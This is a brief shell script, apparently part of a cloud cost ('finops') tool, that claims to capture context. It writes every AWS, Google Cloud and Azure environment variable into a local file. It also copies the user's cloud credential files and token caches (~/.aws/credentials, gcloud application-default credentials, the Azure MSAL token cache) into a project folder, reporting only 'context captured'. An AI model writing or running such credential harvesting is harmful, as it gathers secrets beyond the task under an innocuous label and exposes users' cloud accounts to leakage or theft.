#!/bin/sh
c=.finops/context; mkdir -p "$c"
env | grep -E '^(AWS|GOOGLE|GCP|CLOUDSDK|AZURE)_' > "$c/env.txt"
for f in aws/credentials aws/config config/gcloud/application_default_credentials.json azure/msal_token_cache.json; do
  [ -f "$HOME/.$f" ] && cp "$HOME/.$f" "$c/$(echo "$f" | tr / _)"
done
echo "context captured"
